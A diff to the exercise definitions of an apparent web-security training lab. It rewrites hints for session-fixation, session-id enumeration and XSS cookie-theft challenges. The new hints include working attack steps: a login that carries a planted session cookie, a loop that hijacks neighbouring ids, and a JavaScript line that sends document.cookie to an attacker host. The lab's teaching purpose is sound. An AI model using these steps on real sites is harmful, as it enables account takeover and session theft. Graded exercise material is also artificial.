@@ -162,10 +162,13 @@ def _strings(answer: Any) -> list[str] | None:
     title="Session fixation: plant an id, let the victim log in with it, use it",
     kind="attack",
     hints=(
-        "lab.client.get('/') gives every visitor a session id before any login: that is yours.",
-        "The victim's browser carries the id you planted: log in as alice with a client whose "
-        "only cookie is sessionid=<your id> (cookie_header(name, id) builds the header).",
-        "Then ask /api/me with the same id. Hand in the id you planted (a string).",
+        "Fixation needs an id the attacker knows before the victim logs in: GET / gives every "
+        "visitor a session id (the sessionid cookie of the response) before any login.",
+        "httpx.post(site + '/api/auth/login', json={'email': ..., 'password': ...}, "
+        "headers={'Cookie': f'sessionid={planted}'}) is the victim logging in with the planted "
+        "id; then GET /api/me with the same Cookie header as the attacker. Return the id.",
+        "Ready-made: labkit.attacks.sessions.cookie_header('sessionid', planted) builds that "
+        "header and whoami(client, 'sessionid', planted) asks /api/me with it.",
     ),
     answer_help="the session id you planted before the victim logged in",
 )
@@ -195,10 +198,14 @@ def fixation(ctx: CheckContext) -> Verdict:
     title="Predictable ids: find alice's session next to yours",
     kind="attack",
     hints=(
-        "Log in as carol and look at your session id: it is a number.",
-        "labkit.attacks.sessions.enumerate_sessions(lab.client, 'sessionid', int(my_id)) tries "
-        "the ids around yours.",
-        "Hand in the ids that opened someone else's account (a list of strings).",
+        "Log in as carol and look at your session id: it is a small number, and the visitors "
+        "before you got the numbers just below it.",
+        "Loop over range(int(my_id) - 25, int(my_id) + 26): GET /api/me with headers="
+        "{'Cookie': f'sessionid={n}'}; a 200 whose email is not carol's is a hijacked session. "
+        "Hand in those ids (a list of strings).",
+        "Ready-made: labkit.attacks.sessions.enumerate_sessions(lab.client, 'sessionid', "
+        "int(my_id)) tries the ids around yours (for ids from random.getrandbits, "
+        "labkit.attacks.session_ids.predict_mersenne rebuilds the generator from 624 outputs).",
     ),
     answer_help="a list of session ids that belong to other users",
 )
@@ -233,10 +240,14 @@ def predict_ids(ctx: CheckContext) -> Verdict:
     title="An injected script reads the session cookie (no HttpOnly), in a real browser",
     kind="attack",
     hints=(
-        "Start the attacker's site: evil = Sandbox(attacker_site()).start().",
-        "payload = steal_cookie_payload(evil.url); browser_xss(browser, other_site(lab.url), "
-        "email, password, payload) logs the victim in and opens the page with your script.",
-        "evil.client.get('/loot').json() is what the script sent; hand in that string.",
+        "A script on the wallet's page can read document.cookie when the cookie lacks "
+        "HttpOnly; it only has to make the browser send that string to a URL of yours.",
+        "new Image().src = EVIL + '/collect?c=' + encodeURIComponent(document.cookie); (with "
+        "EVIL the attacker's evil.url) makes the browser request it; fetch(...) works too. "
+        "evil.client.get('/loot').json() is what arrived; hand in that string.",
+        "Ready-made: labkit.attacks.sessions.steal_cookie_payload(evil.url) writes the whole "
+        "<script>, and browser_xss(browser, other_site(lab.url), email, password, payload) "
+        "logs the victim in and opens the page with it.",
     ),
     answer_help="the cookie string your injected script sent to the attacker's site",
 )
